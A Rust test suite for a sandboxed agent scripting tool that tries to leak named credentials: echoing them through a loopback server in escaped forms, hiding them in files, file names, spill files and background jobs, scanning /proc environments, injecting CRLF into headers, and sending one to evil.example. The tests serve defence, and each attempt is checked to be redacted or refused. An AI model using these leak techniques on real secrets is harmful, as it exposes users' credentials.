//! Attacks on named credentials (`sluice.credential`), each driven through
//! the real `sluice` binary with a control that must still work. The
//! promise under attack: the secret never reaches the script or the record,
//! and goes only where the policy allows it. A hostile script (or a
//! prompt-injected model writing one) tries to get it back through a
//! server that echoes it, a file at rest, a background job, another run,
//! an argument, or a field a credential does not belong in.

mod common;
// The helper's `image()` leaves its `tar` to the pipe.
#[path = "common/containers.rs"]
mod containers;

use serde_json::{json, Value};
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::{Path, PathBuf};

/// The secret `SLUICE_CREDENTIAL_GH` holds in these tests: its `_` is what
/// Markdown escapes.
const SECRET: &str = "ghp_sEcReT0123456789abcdefghijKLMN";

/// A named credential that is not token-shaped, so only its being named
/// can give it away.
const PLAIN: &str = "correct-horse-battery-staple";

/// A named credential holding what JSON escapes (`/` for PHP, `<>&` for
/// Go, `"` always), as an AWS secret key holds `/` and `+`.
const SLASHED: &str = "wJalrXUtnFEMI/K7MDENG/bPx<RfiCY>&EXAMPLE\"KEY+";

const GRANT: [&str; 2] = ["--approve", "cred:use:gh@command"];

/// Runs `body` (with `emit`) with the three credentials set and `flags`.
fn run(ws: &Path, flags: &[&str], body: &str) -> common::Run {
    common::run_lua_env(
        ws,
        &format!("{}{body}", common::EMIT),
        flags,
        &[],
        &[
            ("SLUICE_CREDENTIAL_GH", SECRET),
            ("SLUICE_CREDENTIAL_PLAIN", PLAIN),
            ("SLUICE_CREDENTIAL_AWS", SLASHED),
        ],
    )
}

fn lines(run: &common::Run) -> Vec<Value> {
    run.stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON: {l:?}: {e}")))
        .collect()
}

/// Asserts that nothing a reader of the record sees holds `secret`: the
/// store's files, `audit show` of every call, `audit export`.
fn assert_record_clean(ws: &Path, secret: &str) {
    assert_eq!(
        common::record_files_holding(ws, secret),
        Vec::<PathBuf>::new()
    );
    let export = common::sluice_in(ws, &["audit", "export", "last"]);
    assert_eq!(export.code, 0, "{}", export.stderr);
    assert!(!export.stdout.contains(secret), "{}", export.stdout);
    let show = common::sluice_in(ws, &["audit", "show", "last", "--json"]);
    assert!(!show.stdout.contains(secret), "{}", show.stdout);
    let verify = common::sluice_in(ws, &["audit", "verify"]);
    assert_eq!(verify.code, 0, "{}{}", verify.stdout, verify.stderr);
}

/// An HTTP server on loopback that echoes a request's `authorization`
/// header the way its path asks: `/json/plain`, `/json/php` (`/` escaped)
/// and `/json/go` (`<`, `>`, `&` escaped) as a JSON string, `/redirect` in
/// a same-origin `location` and a `set-cookie`, `/html` inside a page, `/pad/N` after N
/// bytes of `a` and before 100 of `b`, anything else as plain text. One request a connection.
struct Echo {
    addr: SocketAddr,
}

impl Echo {
    fn start() -> Echo {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                std::thread::spawn(move || {
                    let _ = Echo::answer(stream);
                });
            }
        });
        Echo { addr }
    }

    fn answer(stream: TcpStream) -> std::io::Result<()> {
        let mut reader = BufReader::new(stream.try_clone()?);
        let mut first = String::new();
        reader.read_line(&mut first)?;
        let path = first.split_whitespace().nth(1).unwrap_or("/").to_string();
        let (mut auth, mut len) = (String::new(), 0usize);
        loop {
            let mut h = String::new();
            if reader.read_line(&mut h)? == 0 || h.trim().is_empty() {
                break;
            }
            let (k, v) = h.split_once(':').unwrap_or((&h, ""));
            match k.trim().to_ascii_lowercase().as_str() {
                "authorization" => auth = v.trim().to_string(),
                "content-length" => len = v.trim().parse().unwrap_or(0),
                _ => {}
            }
        }
        let mut body = vec![0; len];
        reader.read_exact(&mut body)?;
        let json = serde_json::Value::from(auth.as_str()).to_string();
        let (kind, text) = if path == "/json/plain" {
            ("application/json", format!("{{\"auth\": {json}}}"))
        } else if path == "/json/php" {
            let php = json.replace('/', "\\/");
            ("application/json", format!("{{\"auth\": {php}}}"))
        } else if path == "/json/go" {
            let go = json
                .replace('<', "\\u003c")
                .replace('>', "\\u003e")
                .replace('&', "\\u0026");
            ("application/json", format!("{{\"auth\": {go}}}"))
        } else if path == "/html" {
            (
                "text/html",
                format!("<html><body><p>You sent {auth}</p></body></html>"),
            )
        } else if let Some(n) = path.strip_prefix("/pad/") {
            let n: usize = n.parse().unwrap();
            (
                "text/plain",
                format!("{}{auth}{}", "a".repeat(n), "b".repeat(100)),
            )
        } else {
            ("text/plain", format!("you sent {auth}"))
        };
        let mut out = stream;
        if path == "/redirect" {
            return write!(
                out,
                "HTTP/1.1 302 Found\r\nlocation: /landed?t={auth}\r\nset-cookie: t={auth}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
            );
        }
        write!(
            out,
            "HTTP/1.1 200 OK\r\ncontent-type: {kind}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{text}",
            text.len()
        )?;
        out.flush()
    }

    fn origin(&self) -> String {
        format!("http://{}", self.addr)
    }

    /// The grants a fetch of this server with credential `gh` needs.
    fn grants(&self) -> Vec<String> {
        let o = self.origin();
        [
            format!("net:get:{o}"),
            format!("net:post:{o}"),
            format!("net:private:{o}"),
            format!("cred:use:gh@{o}"),
            format!("cred:use:aws@{o}"),
        ]
        .into_iter()
        .flat_map(|g| ["--approve".to_string(), g])
        .collect()
    }
}

fn strs(v: &[String]) -> Vec<&str> {
    v.iter().map(String::as_str).collect()
}

// --- Getting the secret back into Lua ---------------------------------------

#[test]
fn a_background_job_reading_a_file_a_credentialed_command_left_gets_it_cut() {
    // Hole found: job:read() handed a job's output to the script uncut, so a
    // foreground command allowed the credential wrote it down and a
    // background `cat` brought it back whole.
    let ws = common::workspace();
    let body = r#"
sluice.bash{command = "printf %s \"$T\" > at-rest.txt", env = {T = sluice.credential("gh")}}
local j = sluice.bash{command = "cat at-rest.txt; echo; echo plain-control", background = true}
j:wait(10000)
emit(j:read())
"#;
    let out = run(ws.path(), &GRANT, body).ok();
    let got = lines(&out);
    assert_eq!(
        std::fs::read_to_string(ws.file("at-rest.txt")).unwrap(),
        SECRET,
        "the file holds the real secret"
    );
    // The control: the job's own text comes through.
    assert_eq!(got[0]["stdout"], "[redacted]\nplain-control\n");
    assert!(!out.stdout.contains(SECRET), "{}", out.stdout);
    assert_record_clean(ws.path(), SECRET);
}

#[test]
fn file_names_a_command_made_from_the_secret_come_back_cut_from_glob_ls_and_grep() {
    let ws = common::workspace();
    let body = r#"
sluice.bash{command = "touch \"f-$T\"; printf 'line %s\n' \"$T\" > g.txt", env = {T = sluice.credential("gh")}}
emit(sluice.glob{pattern = "f-*"}.paths)
local names = {}
for _, e in ipairs(sluice.ls{path = "."}.entries) do names[#names + 1] = e.name end
emit(names)
emit(sluice.grep{pattern = "line"}.matches[1].text)
"#;
    let out = run(ws.path(), &GRANT, body).ok();
    let got = lines(&out);
    assert!(
        ws.file(&format!("f-{SECRET}")).exists(),
        "the command made the file"
    );
    assert_eq!(got[0], json!(["f-[redacted]"]));
    assert!(got[1].as_array().unwrap().contains(&json!("f-[redacted]")));
    assert!(
        got[1].as_array().unwrap().contains(&json!("g.txt")),
        "control"
    );
    assert_eq!(got[2], "line [redacted]");
    assert!(!out.stdout.contains(SECRET));
    assert_record_clean(ws.path(), SECRET);
}

#[test]
fn a_secret_left_in_the_workspace_by_an_earlier_run_is_cut_in_a_run_that_never_sends_it() {
    // Hole found: only a credential this process had loaded was cut, so a
    // second run, which never sent `gh`, read the file the first left and
    // handed the secret to the script and stored it in the record.
    let ws = common::workspace();
    run(
        ws.path(),
        &GRANT,
        r#"sluice.bash{command = "printf 'key %s\n' \"$T\" > left.txt", env = {T = sluice.credential("gh")}}"#,
    )
    .ok();
    assert_eq!(
        std::fs::read_to_string(ws.file("left.txt")).unwrap(),
        format!("key {SECRET}\n")
    );
    let body = r#"
emit(sluice.read{path = "left.txt"}.content)
emit(sluice.bash{command = "cat left.txt"}.stdout)
"#;
    let out = run(ws.path(), &[], body).ok();
    let got = lines(&out);
    assert_eq!(
        got,
        vec![json!("key [redacted]"), json!("key [redacted]\n")]
    );
    assert_record_clean(ws.path(), SECRET);
}

#[test]
fn an_echoing_server_s_page_rendered_as_markdown_does_not_carry_the_escaped_secret() {
    // Hole found: webfetch's Markdown escapes `_` (`ghp\_...`), so the cut,
    // made on the rendered text, no longer recognized the copy the server
    // echoed.
    let srv = Echo::start();
    let ws = common::workspace();
    let body = format!(
        r#"
local gh = sluice.credential("gh")
for _, format in ipairs({{"markdown", "text", "html"}}) do
  local r, e = sluice.webfetch{{url = "{o}/html", format = format, headers = {{authorization = gh}}}}
  emit(r and r.content or e)
end
"#,
        o = srv.origin()
    );
    let grants = srv.grants();
    let out = run(ws.path(), &strs(&grants), &body).ok();
    let got = lines(&out);
    let escaped = SECRET.replace('_', "\\_");
    for page in &got {
        let text = page.as_str().unwrap_or_else(|| panic!("{page}"));
        assert!(text.contains("You sent"), "the control: {text}");
        assert!(text.contains("redacted"), "{text}");
        assert!(!text.contains(&escaped) && !text.contains(SECRET), "{text}");
        assert!(!text.contains(&SECRET[4..]), "{text}");
    }
    assert_record_clean(ws.path(), SECRET);
}

#[test]
fn a_body_clipped_at_60000_bytes_does_not_hand_over_the_first_part_of_an_echoed_secret() {
    // Hole found: fetch and http_post keep a body's first 60,000 bytes and
    // cut the secret after that, so a copy the clip split left its first
    // part in the text, and two calls with other paddings gave it all.
    let srv = Echo::start();
    let ws = common::workspace();
    let body = format!(
        r#"
local gh = sluice.credential("gh")
emit(sluice.fetch{{url = "{o}/pad/59980", headers = {{authorization = gh}}}})
emit(sluice.http_post{{url = "{o}/pad/59990", body = "x", headers = {{authorization = gh}}}})
emit(sluice.webfetch{{url = "{o}/pad/59985", format = "text", headers = {{authorization = gh}}}})
emit(sluice.fetch{{url = "{o}/pad/10", headers = {{authorization = gh}}}})
"#,
        o = srv.origin()
    );
    let grants = srv.grants();
    let out = run(ws.path(), &strs(&grants), &body).ok();
    let got = lines(&out);
    for (i, kept) in [59980, 59990, 59985].into_iter().enumerate() {
        let text = got[i]["body"]
            .as_str()
            .or(got[i]["content"].as_str())
            .unwrap_or_else(|| panic!("{}", got[i]));
        assert_eq!(got[i]["truncated"], true, "{}", got[i]);
        let tail = &text[kept..];
        assert!(
            tail.starts_with("[redacted]") || "[redacted]".starts_with(tail),
            "call {i} kept {tail:?}"
        );
        assert!(!text.contains(&SECRET[..6]), "call {i}: {tail:?}");
    }
    // The control: a body under the clip shows the echo, cut.
    assert_eq!(
        got[3]["body"],
        format!("{}[redacted]{}", "a".repeat(10), "b".repeat(100))
    );
    assert_eq!(got[3]["truncated"], false);
    assert!(!out.stdout.contains(&SECRET[..8]));
    assert_record_clean(ws.path(), SECRET);
}

#[test]
fn a_big_output_s_spill_file_is_out_of_reach_of_commands_and_read_back_cut() {
    let ws = common::workspace();
    let body = r#"
local r = sluice.bash{command = "head -c 20000 /dev/zero | tr '\\0' a; printf '\\n%s\\n' \"$T\"; head -c 20000 /dev/zero | tr '\\0' b",
                      env = {T = sluice.credential("gh")}}
emit({path = r.stdoutSpillPath, truncated = r.stdoutTruncated})
local c = sluice.bash{command = "base64 " .. r.stdoutSpillPath}
emit(c)
local g, ge = sluice.grep{pattern = "^ghp", root = r.stdoutSpillPath:match("^(.*)/")}
emit(g and g.matches or ge)
"#;
    let spill_dir = ws.path().parent().unwrap();
    let spill_grant = format!("fs:read:{}/**", std::env::temp_dir().display());
    let mut flags = GRANT.to_vec();
    flags.extend(["--approve", &spill_grant, "--keep-spill"]);
    let out = run(ws.path(), &flags, body).ok();
    let got = lines(&out);
    assert_eq!(got[0]["truncated"], true);
    let spill = got[0]["path"].as_str().unwrap();
    // A confined command cannot see the spill folder, so it cannot encode
    // what is in it.
    assert_ne!(got[1]["exitCode"], 0, "{}", got[1]);
    assert!(
        got[1]["stderr"].as_str().unwrap().contains("No such file"),
        "{}",
        got[1]
    );
    // The file holds the output as printed (it is the command's output, kept
    // by --keep-spill); grep of it, as every flow's output, is cut.
    let kept = std::fs::read_to_string(spill).unwrap();
    assert!(kept.contains(SECRET));
    assert_eq!(got[2][0]["text"], "[redacted]", "{}", got[2]);
    assert!(!got[2].to_string().contains(SECRET));
    assert_record_clean(ws.path(), SECRET);
    let _ = std::fs::remove_dir_all(Path::new(spill).parent().unwrap());
    let _ = spill_dir;
}

#[test]
fn a_secret_printed_in_two_halves_after_100_mib_is_cut_from_the_tail_of_a_spliced_stream() {
    // Past its budget a stream's bytes are spliced (into the spill file,
    // then away), and only what may be its last 15,000 bytes is read. The
    // secret comes in two writes, a pause between, so the drain has moved
    // the first half's neighbours before the second half exists: the tail
    // must still hold it whole, for the cut to find it.
    let ws = common::workspace();
    let body = r#"
local r = sluice.bash{command = "head -c 104857600 /dev/zero | tr '\\0' a; printf %.13s \"$T\"; sleep 0.3; printf '%s\\n' \"${T#?????????????}\"; head -c 9000 /dev/zero | tr '\\0' b",
                      env = {T = sluice.credential("gh")}}
emit({out = r.stdout, dropped = r.stdoutDroppedBytes, truncated = r.stdoutTruncated})
"#;
    let out = run(ws.path(), &GRANT, body).ok();
    let got = lines(&out);
    let total = 104_857_600 + SECRET.len() + 1 + 9_000;
    assert_eq!(got[0]["truncated"], true);
    assert_eq!(got[0]["dropped"], (total - 30_000) as u64);
    let text = got[0]["out"].as_str().unwrap();
    let tail = format!(
        "{}[redacted]\n{}",
        "a".repeat(15_000 - 9_000 - 1 - SECRET.len()),
        "b".repeat(9_000)
    );
    assert!(
        text.ends_with(&tail),
        "tail: {:?}",
        &text[text.len() - 200..]
    );
    assert!(!out.stdout.contains(&SECRET[..8]));
    assert_record_clean(ws.path(), SECRET);
}

// --- Sending it where the policy did not allow -------------------------------

#[test]
fn a_credential_is_refused_in_every_field_but_headers_and_env() {
    let ws = common::workspace();
    let body = r#"
local gh = sluice.credential("gh")
local tries = {
  {"fetch", {url = gh}},
  {"http_post", {url = "https://example.org/", body = gh}},
  {"bash", {command = gh}},
  {"bash", {command = "true", stdin = gh}},
  {"bash", {command = "true", cwd = gh}},
  {"bash", {script = "true", args = {gh}}},
  {"write", {path = "w.txt", content = gh}},
  {"shell_command", {command = gh}},
}
for _, t in ipairs(tries) do
  local r, e = sluice.call(t[1], t[2])
  emit({t[1], r and "ran" or e.code, e and e.field})
end
"#;
    let out = run(ws.path(), &GRANT, body).ok();
    let got = lines(&out);
    let fields: Vec<Value> = got.iter().map(|l| l[2].clone()).collect();
    for l in &got {
        assert_eq!(l[1], "invalid_input", "{l}");
    }
    assert_eq!(
        fields,
        vec![
            json!("url"),
            json!("body"),
            json!("command"),
            json!("stdin"),
            json!("cwd"),
            json!("args[0]"),
            json!("content"),
            json!("command")
        ]
    );
    assert!(!ws.file("w.txt").exists());
    assert!(!out.stdout.contains(SECRET));
}

#[test]
fn a_credential_is_refused_in_a_header_that_follows_redirects_in_any_case_and_in_a_bad_name() {
    let srv = Echo::start();
    let ws = common::workspace();
    let body = format!(
        r#"
local gh = sluice.credential("gh")
for _, h in ipairs({{"Accept", "USER-AGENT", "Content-Type", "x-a\r\nx-b", "x-a:b"}}) do
  local r, e = sluice.fetch{{url = "{o}/", headers = {{[h] = gh}}}}
  emit(r and "sent" or e.code)
end
local ok, e = pcall(sluice.credential, "gh", {{prefix = "Bearer x\r\nx-injected: 1\r\n"}})
emit(tostring(e))
emit(sluice.fetch{{url = "{o}/", headers = {{["X-Token"] = gh}}}}.body)
"#,
        o = srv.origin()
    );
    let grants = srv.grants();
    let out = run(ws.path(), &strs(&grants), &body).ok();
    let got = lines(&out);
    assert_eq!(got[..5], vec![json!("invalid_input"); 5]);
    assert!(
        got[5].as_str().unwrap().contains("control characters"),
        "{}",
        got[5]
    );
    // The control: an x-... header carries it (this echo shows only
    // authorization, so nothing comes back).
    assert_eq!(got[6], "you sent ");
}

#[test]
fn a_deny_for_an_origin_is_not_stepped_around_by_case_a_trailing_dot_or_the_default_port() {
    let ws = common::workspace();
    let pol = common::policy(
        &ws,
        "creds.lua",
        "local p = require(\"sluice.policy\")\nreturn { rules = { p.allow \"net:get:*\", \
         p.deny(\"cred:use:gh@https://evil.example\", \"not there\"), p.allow \"cred:use:gh@*\" } }\n",
    );
    let body = r#"
local gh = sluice.credential("gh")
for _, u in ipairs({"https://EVIL.example/", "https://evil.example./", "https://evil.example:443/",
                    "https://Evil.Example.:443/x", "https://good.example/"}) do
  local r, e = sluice.fetch{url = u, headers = {authorization = gh}, timeout = 2}
  emit(r and "sent" or {e.code, e.reason})
end
"#;
    let got = lines(&run(ws.path(), &["--policy", &pol], body).ok());
    for l in &got[..4] {
        assert_eq!(*l, json!(["permission_denied", "not there"]));
    }
    // The control: another origin passes the policy (then fails to resolve).
    assert_ne!(got[4][0], "permission_denied", "{}", got[4]);
}

// --- Run arguments -----------------------------------------------------------

#[test]
fn a_named_credential_inside_an_argument_is_stored_redacted_and_a_replay_needs_it_again() {
    // Hole found: only an argument equal to a named credential's value was
    // redacted, so `--header=X-Key: VALUE` kept it in the run row.
    let ws = common::workspace();
    let script = common::script_file(
        ws.path(),
        "sluice.write{path = 'arg', content = sluice.args[2]}\n",
    );
    let args = ["plain", &format!("--header=X-Key: {PLAIN}")];
    let out: common::Run = common::sluice_run(ws.path(), &script, &[], &args)
        .env("SLUICE_CREDENTIAL_PLAIN", PLAIN)
        .output()
        .unwrap()
        .into();
    out.ok();
    // The script saw the argument as given; the write's own input is cut.
    assert_eq!(std::fs::read_to_string(ws.file("arg")).unwrap(), args[1]);
    let shown = common::sluice_in(ws.path(), &["audit", "show", "last", "--json"]);
    let run: Value = serde_json::from_str(&shown.stdout).unwrap();
    assert_eq!(
        run["run"]["args"],
        json!(["plain", "--header=X-Key: [redacted: a named credential]"])
    );
    assert_record_clean(ws.path(), PLAIN);
    let replay = common::sluice_in(ws.path(), &["replay", "last"]);
    assert_ne!(replay.code, 0);
    assert!(replay.stderr.contains("argument 2"), "{}", replay.stderr);
}

#[test]
fn a_replay_given_another_value_for_a_redacted_argument_diverges_and_the_record_still_verifies() {
    let ws = common::workspace();
    let script = common::script_file(
        ws.path(),
        "sluice.write{path = 'arg', content = 'got ' .. #sluice.args[1]}\n",
    );
    let out: common::Run = common::sluice_run(ws.path(), &script, &[], &["--token=hunter2hunter2"])
        .output()
        .unwrap()
        .into();
    out.ok();
    let ws_text = ws.path().display().to_string();
    let replay = |arg: &str| -> common::Run {
        std::process::Command::new(common::sluice_bin())
            .args(["replay", "last", "--workspace", &ws_text, "--", arg])
            .output()
            .unwrap()
            .into()
    };
    // Another secret of another length changes what the script writes: the
    // replay stops at that call.
    let other = replay("--token=x");
    assert_ne!(other.code, 0);
    assert!(other.stderr.contains("replay_diverged"), "{}", other.stderr);
    // The control: the same value reproduces the run.
    let same = replay("--token=hunter2hunter2");
    assert_eq!(same.code, 0, "{}", same.stderr);
    let verify = common::sluice_in(ws.path(), &["audit", "verify"]);
    assert_eq!(verify.code, 0, "{}{}", verify.stdout, verify.stderr);
    assert_record_clean(ws.path(), "hunter2hunter2");
}

// --- What the policy and the prompt see --------------------------------------

#[test]
fn a_decide_hook_sees_the_reference_and_never_the_secret() {
    let ws = common::workspace();
    let pol = common::policy(
        &ws,
        "peek.lua",
        r#"local p = require("sluice.policy")
local function show(v)
  if type(v) ~= "table" then return tostring(v) end
  local keys = {}
  for k in pairs(v) do keys[#keys + 1] = k end
  table.sort(keys)
  local out = {}
  for _, k in ipairs(keys) do out[#out + 1] = k .. "=" .. show(v[k]) end
  return "{" .. table.concat(out, ",") .. "}"
end
return {
  rules = { p.programs, p.allow "proc:spawn:*" },
  decide = function(req)
    if req.capability:match("^cred:use:") then
      return {decision = "deny", reason = show(req.input.env)}
    end
  end,
}
"#,
    );
    let body = r#"
local r, e = sluice.bash{command = "true", env = {T = sluice.credential("gh", {prefix = "tok "}), U = "u"}}
emit(e)
"#;
    let got = lines(&run(ws.path(), &["--policy", &pol], body).ok());
    assert_eq!(got[0]["code"], "permission_denied");
    assert_eq!(
        got[0]["reason"], "{T={credential=gh,prefix=tok },U=u}",
        "{}",
        got[0]
    );
}

#[test]
fn an_echo_in_json_escapes_is_cut_so_decoding_the_body_gives_no_secret() {
    // Hole found: a server echoing the header as a JSON string escapes `"`
    // (and PHP `/`, Go `<>&`), so the body did not hold the secret as sent,
    // and `sluice.json.decode` of it handed the secret to the script.
    let srv = Echo::start();
    let ws = common::workspace();
    let body = format!(
        r#"
local aws = sluice.credential("aws")
for _, how in ipairs({{"plain", "php", "go"}}) do
  local r = sluice.fetch{{url = "{o}/json/" .. how, headers = {{authorization = aws}}}}
  emit({{r.body, sluice.json.decode(r.body).auth}})
end
"#,
        o = srv.origin()
    );
    let grants = srv.grants();
    let out = run(ws.path(), &strs(&grants), &body).ok();
    let got = lines(&out);
    assert_eq!(got.len(), 3);
    for l in &got {
        assert_eq!(l[1], "[redacted]", "{l}");
        assert_eq!(l[0], r#"{"auth": "[redacted]"}"#, "{l}");
    }
    assert!(!out.stdout.contains("K7MDENG"), "{}", out.stdout);
    assert_record_clean(ws.path(), "K7MDENG");
}

#[test]
fn a_credentials_file_inside_the_workspace_is_hidden_from_commands_and_read_back_cut() {
    let ws = common::workspace();
    let file = ws.file("creds");
    std::fs::write(&file, "gh = ghp_fileSecret0123456789abcdefgh\n").unwrap();
    std::fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    let body = r#"
emit(sluice.read{path = "creds"}.content)
emit(sluice.grep{pattern = "gh"}.matches[1].text)
emit(sluice.bash{command = "wc -c < creds"}.stdout)
"#;
    let out = common::run_lua_env(
        ws.path(),
        &format!("{}{body}", common::EMIT),
        &["--credentials", file.to_str().unwrap()],
        &[],
        &[],
    )
    .ok();
    let got = lines(&out);
    assert_eq!(got[0], "gh = [redacted]");
    assert_eq!(got[1], "gh = [redacted]");
    assert_eq!(got[2], "0\n", "a command sees an empty file");
    assert!(!out.stdout.contains("ghp_fileSecret"));
    assert_record_clean(ws.path(), "ghp_fileSecret");
}

#[test]
fn no_process_a_command_can_see_holds_sluice_s_credential_variables() {
    let ws = common::workspace();
    let body = r#"
emit(sluice.bash{interpreter = "python3", script = [[
import os
found, readable = 0, 0
for p in os.listdir("/proc"):
    if not p.isdigit():
        continue
    try:
        env = open("/proc/%s/environ" % p, "rb").read()
    except OSError:
        continue
    readable += 1
    found += env.count(b"SLUICE_CREDENTIAL_")
print(found, readable > 0, b"PATH=" in open("/proc/self/environ", "rb").read())
]]}.stdout)
"#;
    let got = lines(&run(ws.path(), &[], body).ok());
    // The control: the command reads its own environment.
    assert_eq!(got[0], "0 True True\n");
}

/// Every process of this machine whose command line holds `needle`.
fn command_lines_holding(needle: &str) -> Vec<String> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        if let Ok(line) = std::fs::read(entry.path().join("cmdline")) {
            if line.windows(needle.len()).any(|w| w == needle.as_bytes()) {
                found.push(String::from_utf8_lossy(&line).replace('\0', " "));
            }
        }
    }
    found
}

#[test]
fn a_credential_for_a_command_routed_into_a_container_travels_in_no_command_line() {
    let c = containers::Container::start();
    let ws = common::workspace();
    let body = format!(
        r#"
local r, e = sluice.bash{{command = "printf %s \"$T\" | wc -c; printf %s \"$T\"; sleep 2",
                         container = "{}", env = {{T = sluice.credential("gh")}}}}
emit(r or e)
"#,
        c.name
    );
    let script = common::script_file(ws.path(), &format!("{}{body}", common::EMIT));
    let flags = [
        "--container-engine",
        "podman",
        "--approve",
        "cred:use:gh@command",
    ];
    let mut child = common::sluice_run(ws.path(), &script, &flags, &[])
        .envs(containers::env())
        .env("SLUICE_CREDENTIAL_GH", SECRET)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut seen = Vec::new();
    let started = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() && started.elapsed().as_secs() < 30 {
        seen.extend(command_lines_holding(SECRET));
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let out: common::Run = child.wait_with_output().unwrap().into();
    let got = lines(&out.ok());
    assert_eq!(
        seen,
        Vec::<String>::new(),
        "the secret was on a command line"
    );
    // The control: the command inside the container had the secret, and
    // what it printed of it came back cut.
    assert_eq!(got[0]["sandbox"]["mode"], "container", "{}", got[0]);
    assert_eq!(got[0]["stdout"], format!("{}\n[redacted]", SECRET.len()));
    assert_record_clean(ws.path(), SECRET);
}

#[test]
fn an_echo_in_a_redirect_s_location_comes_back_cut_in_the_final_url() {
    let srv = Echo::start();
    let ws = common::workspace();
    let body = format!(
        r#"
local gh = sluice.credential("gh")
local w = sluice.webfetch{{url = "{o}/redirect", format = "text", headers = {{authorization = gh}}}}
emit({{w.url, w.content}})
"#,
        o = srv.origin()
    );
    let grants = srv.grants();
    let out = run(ws.path(), &strs(&grants), &body).ok();
    let got = lines(&out);
    // The same-origin hop kept the credential (the landing page echoes
    // it), and the URL the redirect named holds it: both come back cut.
    assert_eq!(
        got[0],
        json!([
            format!("{}/landed?t=[redacted]", srv.origin()),
            "you sent [redacted]"
        ])
    );
    assert!(!out.stdout.contains(SECRET));
    assert_record_clean(ws.path(), SECRET);
}
